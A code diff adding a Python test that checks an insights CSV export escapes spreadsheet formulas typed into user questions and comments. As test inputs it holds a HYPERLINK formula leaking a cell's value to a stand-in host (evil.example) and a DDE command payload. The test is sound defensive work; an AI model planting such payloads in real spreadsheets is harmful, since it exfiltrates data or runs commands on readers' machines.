@@ -159,3 +159,17 @@ def test_guidance_owners_match_emails_and_platform_ids_in_any_case() -> None:
     assert owners.includes("u0sam00001")
     assert not owners.includes("someone@council.gov.uk", None)
     assert not GuidanceOwners.of([])
+
+
+def test_a_formula_typed_as_a_question_or_comment_is_plain_text_in_the_insights_csv(database) -> None:
+    """Officers open the insights CSV in Excel: what someone typed must never run as a formula there."""
+    clock = Clock(datetime(2026, 1, 5, 10, tzinfo=UTC))
+    log = AnswerLog(database, clock)
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    ref = log.record(question=formula, kind="unsure", citations=[], platform="slack")
+    log.rate(ref, helpful=False, comment="+cmd|' /C calc'!A0")
+    out = io.StringIO()
+    write_insights_csv(build_insights(log.entries(), [(ROLES_DOC, "Roles")]), out)
+    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
+    assert f"'{formula}" in cells and "'+cmd|' /C calc'!A0" in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
